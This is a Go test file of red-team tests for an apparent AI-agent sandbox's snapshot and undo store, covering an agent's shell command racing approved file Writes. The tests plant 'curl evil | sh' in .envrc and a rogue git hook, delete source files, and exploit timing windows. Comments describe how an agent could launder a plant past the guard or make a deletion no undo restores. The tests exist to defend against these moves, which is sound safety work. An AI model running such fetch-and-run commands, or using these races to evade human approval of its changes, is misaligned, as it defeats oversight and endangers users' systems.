package snapshot_test

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/agentbox/agentbox/snapshot"
)

// Red-team attacks on concurrent calls: a shell command (the agent's)
// runs while the agent's other calls (Write, Undo) go on.

func openProtected(t *testing.T, ws string, opts ...snapshot.Option) *snapshot.Store {
	t.Helper()
	opts = append([]snapshot.Option{snapshot.WithProtection(func() snapshot.ProtectFunc { return protect })}, opts...)
	st, err := snapshot.Open(context.Background(), t.TempDir(), ws, opts...)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	return st
}

// keepAll approves every protected change (a person said yes to the
// Write of that path).
func keepAll(_ context.Context, cs []snapshot.Protected) []string {
	var out []string
	for _, c := range cs {
		out = append(out, c.Path)
	}
	return out
}

// fileWrite is a file-scoped call that writes content to rel, approved
// to change a protected rel.
func fileWrite(t *testing.T, st *snapshot.Store, ws, rel, content string) snapshot.Entry {
	t.Helper()
	ctx := context.Background()
	c, err := st.Begin(ctx, snapshot.CallInfo{Tool: "Write"}, snapshot.File(filepath.Join(ws, rel)))
	if err != nil {
		t.Fatal(err)
	}
	c.SetKeep(keepAll)
	write(t, ws, rel, content)
	e, err := c.Finish(ctx)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// A shell command plants .envrc; while it runs, a Write of .envrc that a
// person approved (for its own, harmless content) takes the path over,
// so the shell entry no longer holds the plant and its guard never sees
// it. Undoing that Write must not bring the planted content back: it was
// never judged.
func TestRedteamUndoLaundersShellPlant(t *testing.T) {
	ctx := context.Background()
	ws := t.TempDir()
	write(t, ws, ".envrc", "export SAFE=1\n")
	write(t, ws, "main.go", "package main\n")
	st := openProtected(t, ws)

	sh, err := st.Begin(ctx, snapshot.CallInfo{Tool: "Bash"}, snapshot.Whole())
	if err != nil {
		t.Fatal(err)
	}
	write(t, ws, ".envrc", "curl evil | sh\n") // the command's plant
	w := fileWrite(t, st, ws, ".envrc", "export APPROVED=1\n")
	write(t, ws, "main.go", "package main // shell\n")
	se, err := sh.Finish(ctx)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("write %s: %+v; shell %s: changes %v reverted %v overlapped %v", w.ID, w.Changes, se.ID, paths(se.Changes), se.Reverted, se.Overlapped)
	if got := read(ws, ".envrc"); got != "export APPROVED=1\n" {
		t.Fatalf(".envrc after the calls = %q", got)
	}
	if _, err := st.Undo(ctx, w.ID, false, snapshot.CallInfo{}); err != nil {
		t.Fatal(err)
	}
	if got := read(ws, ".envrc"); got == "curl evil | sh\n" {
		t.Fatalf("undoing the approved Write restored the shell's unjudged plant to .envrc")
	}
	if got := read(ws, ".envrc"); got != "export SAFE=1\n" {
		t.Errorf(".envrc after undoing the Write = %q, want its state before the shell's plant", got)
	}
}

// A shell command waits for the approved Write of .envrc to land and
// overwrites it before the Write's post-image is taken: the Write's entry
// then holds the shell's content. The store cannot tell; the Keep
// function can, because the protected change it is asked about carries
// the new content's hash (tools' keepFor keeps an approved path only when
// it holds what the tool wrote): a Keep that checks it reverts the plant.
func TestRedteamShellRacesApprovedWrite(t *testing.T) {
	ctx := context.Background()
	ws := t.TempDir()
	write(t, ws, ".envrc", "export SAFE=1\n")
	var wid string
	st := openProtected(t, ws, snapshot.WithCallHook(func(point, id string) {
		if point == "file-post" && id == wid {
			write(t, ws, ".envrc", "curl evil | sh\n") // the command, in the window
		}
	}))
	sh, err := st.Begin(ctx, snapshot.CallInfo{Tool: "Bash"}, snapshot.Whole())
	if err != nil {
		t.Fatal(err)
	}
	c, err := st.Begin(ctx, snapshot.CallInfo{Tool: "Write"}, snapshot.File(filepath.Join(ws, ".envrc")))
	if err != nil {
		t.Fatal(err)
	}
	wid = c.ID()
	approved := hashOf("export APPROVED=1\n")
	var asked []snapshot.Protected
	c.SetKeep(func(_ context.Context, cs []snapshot.Protected) []string {
		asked = cs
		var keep []string
		for _, ch := range cs {
			if ch.New != nil && ch.New.Hash == approved {
				keep = append(keep, ch.Path)
			}
		}
		return keep
	})
	write(t, ws, ".envrc", "export APPROVED=1\n")
	w, err := c.Finish(ctx)
	if err != nil {
		t.Fatal(err)
	}
	se, err := sh.Finish(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(asked) != 1 || asked[0].New == nil || asked[0].New.Hash != hashOf("curl evil | sh\n") {
		t.Fatalf("Keep was asked about %+v, want the raced content of .envrc", asked)
	}
	if got := read(ws, ".envrc"); got != "export SAFE=1\n" {
		t.Fatalf(".envrc = %q after a refused keep (write %v reverted %v; shell %v)", got, paths(w.Changes), w.Reverted, paths(se.Changes))
	}
}

// An entry's Old states are what undo brings back. After any
// interleaving of a shell plant with Writes and undos, no entry holds
// the planted content of a protected path as a state to return to.
func TestRedteamNoUnjudgedOldState(t *testing.T) {
	ctx := context.Background()
	ws := t.TempDir()
	write(t, ws, ".envrc", "export SAFE=1\n")
	st := openProtected(t, ws)
	e0 := fileWrite(t, st, ws, ".envrc", "export V1=1\n")
	sh, err := st.Begin(ctx, snapshot.CallInfo{Tool: "Bash"}, snapshot.Whole())
	if err != nil {
		t.Fatal(err)
	}
	write(t, ws, ".envrc", "curl evil | sh\n")
	// A person forces the undo of e0 (CLI) while the command runs.
	u, err := st.Undo(ctx, e0.ID, true, snapshot.CallInfo{})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := sh.Finish(ctx); err != nil {
		t.Fatal(err)
	}
	all, err := st.List(ctx, 0)
	if err != nil {
		t.Fatal(err)
	}
	evil := hashOf("curl evil | sh\n")
	for _, e := range all {
		for _, ch := range e.Changes {
			if ch.Path == ".envrc" && (ch.Old != nil && ch.Old.Hash == evil || ch.New != nil && ch.New.Hash == evil) {
				t.Errorf("entry %s (%s) holds the shell's unjudged .envrc: %+v", e.ID, e.Tool, ch)
			}
		}
	}
	// Undoing the undo re-applies e0, never the plant.
	if _, err := st.Undo(ctx, u.ID, false, snapshot.CallInfo{}); err == nil {
		if got := read(ws, ".envrc"); got == "curl evil | sh\n" {
			t.Fatalf("undoing the forced undo restored the shell's plant")
		}
	}
}

// The shell command creates .git/hooks and plants a hook in it; while it
// runs, an approved Write adds another hook there. The command's guard
// reverts what the command did, and only that: removing the directory it
// created would delete the approved Write's file, a change journaled in
// another entry (which undo could then never account for).
func TestRedteamGuardSparesOthersBeneathCreatedDir(t *testing.T) {
	ctx := context.Background()
	ws := t.TempDir()
	write(t, ws, ".git/config", "[core]\n")
	write(t, ws, "main.go", "package main\n")
	st := openProtected(t, ws)
	sh, err := st.Begin(ctx, snapshot.CallInfo{Tool: "Bash"}, snapshot.Whole())
	if err != nil {
		t.Fatal(err)
	}
	write(t, ws, ".git/hooks/pre-commit", "evil\n")
	w := fileWrite(t, st, ws, ".git/hooks/post-checkout", "approved\n")
	se, err := sh.Finish(ctx)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("write %v; shell %v reverted %v overlapped %v %s", paths(w.Changes), paths(se.Changes), se.Reverted, se.Overlapped, se.RevertError)
	if got := read(ws, ".git/hooks/post-checkout"); got != "approved\n" {
		t.Fatalf("the approved Write's hook after the shell's guard: %q", got)
	}
	if got := read(ws, ".git/hooks/pre-commit"); got == "evil\n" {
		t.Fatalf("the shell's planted hook survived")
	}
	var rev []string
	for _, r := range se.Reverted {
		rev = append(rev, r.Path)
	}
	if !slices.Contains(rev, ".git/hooks/pre-commit") || slices.Contains(rev, ".git/hooks/post-checkout") {
		t.Errorf("shell entry reverted %v", rev)
	}
	// The journal still accounts for the hook: undoing the Write removes it.
	if _, err := st.Undo(ctx, w.ID, false, snapshot.CallInfo{}); err != nil {
		t.Fatalf("undo of the Write: %v", err)
	}
	if got := read(ws, ".git/hooks/post-checkout"); !strings.HasPrefix(got, "<") {
		t.Fatalf("after undoing the Write the hook is still there: %q", got)
	}
}

// A shell command deletes src/a.go; while it runs, a Write creates
// src/a.go anew. The Write's entry starts from "absent" and the shell
// entry, which sorts after it, cannot hold the deletion (it would end
// where the Write's change starts): the old content of src/a.go is in no
// entry (documented: the path is listed in Overlapped). An agent can
// use this to make a deletion that no undo brings back. This test pins
// what holds: the path is listed, and the rest of the command's
// destruction (src/b.go) is undoable. See the red-team report for the
// part that does not.
func TestRedteamOverlappedDeletion(t *testing.T) {
	ctx := context.Background()
	ws := t.TempDir()
	write(t, ws, "src/a.go", "package src // precious\n")
	write(t, ws, "src/b.go", "package src // b\n")
	st := openProtected(t, ws)
	sh, err := st.Begin(ctx, snapshot.CallInfo{Tool: "Bash"}, snapshot.Whole())
	if err != nil {
		t.Fatal(err)
	}
	if err := os.RemoveAll(filepath.Join(ws, "src")); err != nil { // rm -rf src
		t.Fatal(err)
	}
	w := fileWrite(t, st, ws, "src/a.go", "junk\n")
	se, err := sh.Finish(ctx)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("write %v; shell %v overlapped %v", paths(w.Changes), paths(se.Changes), se.Overlapped)
	if !slices.Contains(se.Overlapped, "src/a.go") {
		t.Fatalf("the shell entry does not list src/a.go as overlapped: %v", se.Overlapped)
	}
	all, _ := st.List(ctx, 0)
	precious := hashOf("package src // precious\n")
	held := false
	for _, e := range all {
		for _, ch := range e.Changes {
			if ch.Old != nil && ch.Old.Hash == precious {
				held = true
			}
		}
	}
	t.Logf("old content of src/a.go held by an entry: %v", held)
	if _, err := st.Undo(ctx, se.ID, false, snapshot.CallInfo{}); err != nil {
		t.Fatalf("undo of the shell entry: %v", err)
	}
	if got := read(ws, "src/b.go"); got != "package src // b\n" {
		t.Errorf("src/b.go after undoing the shell entry: %q", got)
	}
	if got := read(ws, "src/a.go"); got != "junk\n" {
		t.Errorf("undoing the shell entry changed the Write's src/a.go: %q", got)
	}
}

// TestRedteamCrashChild is the child of TestRedteamCrashDuringShell: it
// begins a foreground shell call, plants .envrc, and waits to be killed.
func TestRedteamCrashChild(t *testing.T) {
	ws, state := os.Getenv("SNAPSHOT_REDTEAM_WS"), os.Getenv("SNAPSHOT_REDTEAM_STATE")
	if ws == "" {
		return // not the child
	}
	ctx := context.Background()
	st, err := snapshot.Open(ctx, state, ws, snapshot.WithProtection(func() snapshot.ProtectFunc { return protect }))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := st.Begin(ctx, snapshot.CallInfo{Tool: "Bash", Summary: "dies"}, snapshot.Whole()); err != nil {
		t.Fatal(err)
	}
	must(t, os.WriteFile(filepath.Join(ws, ".envrc"), []byte("curl evil | sh\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(ws, "job.txt"), []byte("job"), 0o644))
	os.Stdout.WriteString("ready\n")
	select {}
}

// A process is killed (SIGKILL) while its shell command runs, after the
// command planted .envrc. While it lives, another process's Write and
// undo go on (the plant is reverted before the Write takes the path);
// once it is dead, the next lock completes its call as interrupted
// (guard included), frees the shell lock, and a new shell call starts.
func TestRedteamCrashDuringShell(t *testing.T) {
	ctx := context.Background()
	ws, state := t.TempDir(), t.TempDir()
	write(t, ws, ".envrc", "export SAFE=1\n")
	start := func() *exec.Cmd {
		cmd := exec.Command(os.Args[0], "-test.run=^TestRedteamCrashChild$")
		cmd.Env = append(os.Environ(), "SNAPSHOT_REDTEAM_WS="+ws, "SNAPSHOT_REDTEAM_STATE="+state)
		out, err := cmd.StdoutPipe()
		if err != nil {
			t.Fatal(err)
		}
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		line, _ := bufio.NewReader(out).ReadString('\n')
		if !strings.Contains(line, "ready") {
			cmd.Process.Kill()
			cmd.Wait()
			t.Fatalf("child: %q", line)
		}
		return cmd
	}
	cmd := start()
	st, err := snapshot.Open(ctx, state, ws, snapshot.WithProtection(func() snapshot.ProtectFunc { return protect }))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	w := fileWrite(t, st, ws, ".envrc", "export APPROVED=1\n")
	cmd.Process.Signal(syscall.SIGKILL)
	cmd.Wait()

	// The next lock recovers the dead call; a shell call can start
	// (the dead process's shell lock went with it).
	sctx, cancel := context.WithTimeout(ctx, 30*time.Second)
	defer cancel()
	sh, err := st.Begin(sctx, snapshot.CallInfo{Tool: "Bash"}, snapshot.Whole())
	if err != nil {
		t.Fatalf("a shell call after the crash: %v", err)
	}
	if _, err := sh.Finish(ctx); err != nil {
		t.Fatal(err)
	}
	all, err := st.List(ctx, 0)
	if err != nil {
		t.Fatal(err)
	}
	var dead *snapshot.Entry
	for i := range all {
		if all[i].Interrupted {
			dead = &all[i]
		}
	}
	if dead == nil || !slices.Equal(paths(dead.Changes), []string{"job.txt"}) {
		t.Fatalf("recovered entry %+v; want job.txt, interrupted", dead)
	}
	if des, _ := os.ReadDir(filepath.Join(st.Dir(), "pending")); len(des) != 0 {
		t.Errorf("pending left after recovery: %v", des)
	}
	if got := read(ws, ".envrc"); got != "export APPROVED=1\n" {
		t.Fatalf(".envrc = %q", got)
	}
	if _, err := st.Undo(ctx, w.ID, false, snapshot.CallInfo{}); err != nil {
		t.Fatal(err)
	}
	if got := read(ws, ".envrc"); got != "export SAFE=1\n" {
		t.Fatalf(".envrc after undoing the Write = %q (the dead command's plant?)", got)
	}
}

// Every kind of call at once on one store, in one process (two flocks,
// several descriptors): shell calls, file Writes, undos, checkpoints,
// background jobs, GC, history. Nothing deadlocks (each worker's context
// would end it with an error), and nothing is left pending.
func TestRedteamNoDeadlock(t *testing.T) {
	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
	defer cancel()
	ws := t.TempDir()
	write(t, ws, ".envrc", "export SAFE=1\n")
	st := openProtected(t, ws)
	const rounds = 15
	var wg sync.WaitGroup
	errs := make(chan error, 64)
	worker := func(name string, fn func(i int) error) {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := 0; i < rounds; i++ {
				if err := fn(i); err != nil {
					errs <- fmt.Errorf("%s %d: %w", name, i, err)
					return
				}
			}
		}()
	}
	worker("shell", func(i int) error {
		c, err := st.Begin(ctx, snapshot.CallInfo{Tool: "Bash"}, snapshot.Whole())
		if err != nil {
			return err
		}
		if err := os.WriteFile(filepath.Join(ws, fmt.Sprintf("sh%d.txt", i%3)), []byte(fmt.Sprint(i)), 0o644); err != nil {
			return err
		}
		if err := os.WriteFile(filepath.Join(ws, ".envrc"), []byte("evil\n"), 0o644); err != nil {
			return err
		}
		time.Sleep(2 * time.Millisecond)
		_, err = c.Finish(ctx)
		return err
	})
	worker("write", func(i int) error {
		c, err := st.Begin(ctx, snapshot.CallInfo{Tool: "Write"}, snapshot.File(filepath.Join(ws, fmt.Sprintf("w%d.txt", i%2))))
		if err != nil {
			return err
		}
		if err := os.WriteFile(filepath.Join(ws, fmt.Sprintf("w%d.txt", i%2)), []byte(fmt.Sprint(i)), 0o644); err != nil {
			return err
		}
		_, err = c.Finish(ctx)
		return err
	})
	worker("undo", func(i int) error {
		_, err := st.Undo(ctx, "", false, snapshot.CallInfo{})
		if err != nil && !errors.Is(err, snapshot.ErrConflict) && !errors.Is(err, snapshot.ErrNotFound) {
			return err
		}
		return nil
	})
	worker("checkpoint", func(i int) error {
		_, err := st.Checkpoint(ctx, "cp", snapshot.CallInfo{})
		return err
	})
	worker("job", func(i int) error {
		d, err := st.BeginDetached(ctx, snapshot.CallInfo{Tool: "Bash"})
		if err != nil {
			return err
		}
		if err := os.WriteFile(filepath.Join(ws, "job.txt"), []byte(fmt.Sprint(i)), 0o644); err != nil {
			return err
		}
		_, err = d.Finish(ctx)
		return err
	})
	worker("gc", func(i int) error {
		_, err := st.GC(ctx, snapshot.GCPolicy{KeepCalls: 20})
		return err
	})
	worker("history", func(i int) error {
		_, err := st.List(ctx, 0)
		return err
	})
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
	if des, _ := os.ReadDir(filepath.Join(st.Dir(), "pending")); len(des) != 0 {
		t.Errorf("pending left: %v", des)
	}
	if got := read(ws, ".envrc"); got != "export SAFE=1\n" {
		t.Errorf(".envrc after the run = %q", got)
	}
}

// The command plants .envrc again in the moment between the takeover's
// revert and the Write's pre-image (a loop rewriting it): the Write then
// fails rather than start from the plant, and the command's guard
// reverts it when it ends.
func TestRedteamReplantAfterTakeover(t *testing.T) {
	ctx := context.Background()
	ws := t.TempDir()
	write(t, ws, ".envrc", "export SAFE=1\n")
	replant := false
	st := openProtected(t, ws, snapshot.WithCallHook(func(point, id string) {
		if point == "file-pre" && replant {
			write(t, ws, ".envrc", "curl evil | sh\n")
		}
	}))
	sh, err := st.Begin(ctx, snapshot.CallInfo{Tool: "Bash"}, snapshot.Whole())
	if err != nil {
		t.Fatal(err)
	}
	write(t, ws, ".envrc", "curl evil | sh\n")
	replant = true
	c, err := st.Begin(ctx, snapshot.CallInfo{Tool: "Write"}, snapshot.File(filepath.Join(ws, ".envrc")))
	replant = false
	if err == nil {
		c.SetKeep(keepAll)
		write(t, ws, ".envrc", "export APPROVED=1\n")
		w, err := c.Finish(ctx)
		if err != nil {
			t.Fatal(err)
		}
		if len(w.Changes) == 1 && w.Changes[0].Old != nil && w.Changes[0].Old.Hash == hashOf("curl evil | sh\n") {
			t.Fatalf("the Write's entry starts from the replanted .envrc")
		}
	} else {
		t.Logf("write refused: %v", err)
	}
	se, err := sh.Finish(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if got := read(ws, ".envrc"); got == "curl evil | sh\n" {
		t.Fatalf("the plant survived (shell reverted %v)", se.Reverted)
	}
}

// A protected file inside a directory excluded from snapshots is unknown
// to the manifest: the takeover must leave it alone (the manifest's
// "absent" is no state to set it back to), or a Write would delete it.
func TestRedteamTakeoverSkipsExcluded(t *testing.T) {
	ctx := context.Background()
	ws := t.TempDir()
	write(t, ws, "vendor/pkg/.envrc", "keep me\n")
	st := openProtected(t, ws, snapshot.WithExclude("vendor"))
	sh, err := st.Begin(ctx, snapshot.CallInfo{Tool: "Bash"}, snapshot.Whole())
	if err != nil {
		t.Fatal(err)
	}
	w := fileWrite(t, st, ws, "vendor/pkg/.envrc", "new\n")
	if _, err := sh.Finish(ctx); err != nil {
		t.Fatal(err)
	}
	if len(w.Changes) != 1 || w.Changes[0].Old == nil || w.Changes[0].Old.Hash != hashOf("keep me\n") {
		t.Fatalf("the Write's entry: %+v, want vendor/pkg/.envrc from its old content", w.Changes)
	}
	if _, err := st.Undo(ctx, w.ID, false, snapshot.CallInfo{}); err != nil {
		t.Fatal(err)
	}
	if got := read(ws, "vendor/pkg/.envrc"); got != "keep me\n" {
		t.Fatalf("after undo: %q", got)
	}
}

// No false alarm: while a shell command runs (and leaves .envrc alone),
// approved Writes and undos of .envrc take turns; the takeover check
// must see each one's result as judged, never revert it.
func TestRedteamTakeoverNoFalseRevert(t *testing.T) {
	ctx := context.Background()
	ws := t.TempDir()
	write(t, ws, ".envrc", "v0\n")
	st := openProtected(t, ws)
	sh, err := st.Begin(ctx, snapshot.CallInfo{Tool: "Bash"}, snapshot.Whole())
	if err != nil {
		t.Fatal(err)
	}
	w1 := fileWrite(t, st, ws, ".envrc", "v1\n")
	u1, err := st.Undo(ctx, w1.ID, false, snapshot.CallInfo{})
	if err != nil {
		t.Fatal(err)
	}
	if got := read(ws, ".envrc"); got != "v0\n" {
		t.Fatalf("after undo: %q", got)
	}
	w2 := fileWrite(t, st, ws, ".envrc", "v2\n")
	if len(w2.Changes) != 1 || w2.Changes[0].Old == nil || w2.Changes[0].Old.Hash != hashOf("v0\n") {
		t.Fatalf("second write %+v, want from v0 (the undo's result)", w2.Changes)
	}
	if _, err := st.Undo(ctx, w2.ID, false, snapshot.CallInfo{}); err != nil {
		t.Fatal(err)
	}
	if _, err := st.Undo(ctx, u1.ID, false, snapshot.CallInfo{}); err != nil { // redo w1
		t.Fatal(err)
	}
	se, err := sh.Finish(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if got := read(ws, ".envrc"); got != "v1\n" {
		t.Fatalf(".envrc = %q, want v1 (redone)", got)
	}
	if len(se.Changes) != 0 || len(se.Reverted) != 0 || len(se.Overlapped) != 0 {
		t.Fatalf("shell entry %v reverted %v overlapped %v: the command changed nothing", paths(se.Changes), se.Reverted, se.Overlapped)
	}
}
